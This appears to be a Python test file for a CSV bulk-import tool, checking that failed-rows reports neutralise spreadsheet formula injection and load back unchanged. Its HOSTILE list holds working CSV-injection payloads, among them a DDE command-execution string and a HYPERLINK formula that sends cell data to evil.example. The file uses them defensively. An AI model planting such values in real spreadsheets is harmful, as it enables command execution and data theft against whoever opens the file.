"""A failed-rows report is safe to open in a spreadsheet, and loads back with the values as
they were: a lead named ``=HYPERLINK(…)`` is shown, never run, and reaches the server whole.
"""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulkimport.rows import FORMULA_STARTS, inert, revive
from bulkimport.sandbox import SandboxHandle
from tests.helpers import HEADER, bulkimport, customers, soffice, target

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "'=already marked",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_value_is_marked_and_comes_back_whole(value: str) -> None:
    written = inert(value)
    assert written.startswith("'")
    assert revive(written) == value


@pytest.mark.parametrize("value", ["-2", "+8613800138000", "3.5", "13800138000", "张三", ""])
def test_plain_values_and_numbers_stay_as_they_are(value: str) -> None:
    assert inert(value) == value
    assert revive(value) == value


@given(st.text())
def test_revive_undoes_inert_for_any_text(value: str) -> None:
    assert revive(inert(value)) == value
    assert not inert(value).startswith(FORMULA_STARTS) or inert(value) == value


async def test_a_report_of_formula_like_leads_opens_inert_and_loads_back_whole(
    tmp_path: Path, sandbox: SandboxHandle
) -> None:
    # Rows without a phone number are invalid: they go to the report with their values. (The
    # reader trims a cell's spaces and tabs: a leading tab never reaches a report.)
    hostile = [value for value in HOSTILE if not value.startswith("\t")]
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER.split(","))
        writer.writerows([value, "", f"x{i}@example.cn", value] for i, value in enumerate(hostile))
    first = await bulkimport("run", str(source), *target(sandbox), cwd=tmp_path)
    assert first.code == 1, first.err
    report = tmp_path / "bulkimport-job-1-failed.csv"
    with report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(hostile)
    for row in rows:
        for column in ("name", "city", "_message"):
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    assert [row["name"] for row in rows] == [inert(value) for value in hostile]

    # A person fills in the phone numbers and loads the report as it is.
    fixed = tmp_path / "fixed.csv"
    with (
        report.open(encoding="utf-8-sig", newline="") as src,
        fixed.open("w", encoding="utf-8-sig", newline="") as dst,
    ):
        reader = csv.DictReader(src)
        assert reader.fieldnames is not None
        writer = csv.DictWriter(dst, reader.fieldnames)
        writer.writeheader()
        for i, row in enumerate(reader):
            row["phone1"] = f"1380000{i:04d}"
            writer.writerow(row)
    again = await bulkimport("run", str(fixed), *target(sandbox), cwd=tmp_path)
    assert again.code == 0, again.err
    held = {c["key"]: c["fields"] for c in await customers(sandbox)}
    assert [held[f"1380000{i:04d}"]["customername"] for i in range(len(hostile))] == hostile


def opened_in_libreoffice(report: Path, tmp_path: Path) -> list[list[tuple[object, str]]]:
    """The cells of ``report`` as LibreOffice Calc reads them: (value, type), ``f`` for a
    formula. Calc converts it to .xlsx, which openpyxl reads without evaluating anything."""
    out = tmp_path / "calc"
    profile = tmp_path / "calc-profile"
    subprocess.run(
        [soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), str(report)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    sheet = openpyxl.load_workbook(out / (report.stem + ".xlsx")).active
    assert sheet is not None
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_libreoffice_runs_none_of_a_reports_cells(tmp_path: Path) -> None:
    values = [value for value in HOSTILE if not value.startswith("\t")]

    def report_of(cells: list[str], name: str) -> Path:
        path = tmp_path / name
        with path.open("w", encoding="utf-8-sig", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["name", "_message"])
            writer.writerows([cell, cell] for cell in cells)
        return path

    # As the cells came: Calc takes the formulas for formulas (the test can tell).
    raw = opened_in_libreoffice(report_of(values, "raw.csv"), tmp_path)
    assert any(kind == "f" for row in raw for _, kind in row)
    # As a report writes them: text, every one, shown as written.
    safe = opened_in_libreoffice(report_of([inert(v) for v in values], "safe.csv"), tmp_path)
    assert all(kind == "s" for row in safe[1:] for _, kind in row), safe


async def test_check_names_formula_like_values_and_still_calls_the_file_clean(
    tmp_path: Path,
) -> None:
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["name", "phone1", "city"],
                ['=HYPERLINK("http://evil.example","x")', "13800000001", "-"],
                ["Bob", "13800000002", "-2"],
                ["@SUM(A1)", "13800000003", "+8613800138000"],
            ]
        )
    done = await bulkimport("check", str(source), cwd=tmp_path)
    assert done.code == 0, done.out + done.err
    flagged = [line.strip() for line in done.out.splitlines() if "starts like a formula" in line]
    assert [line.split(":")[0] for line in flagged] == ["line 2", "line 4"]
    assert "No problems in 3 records" in done.out
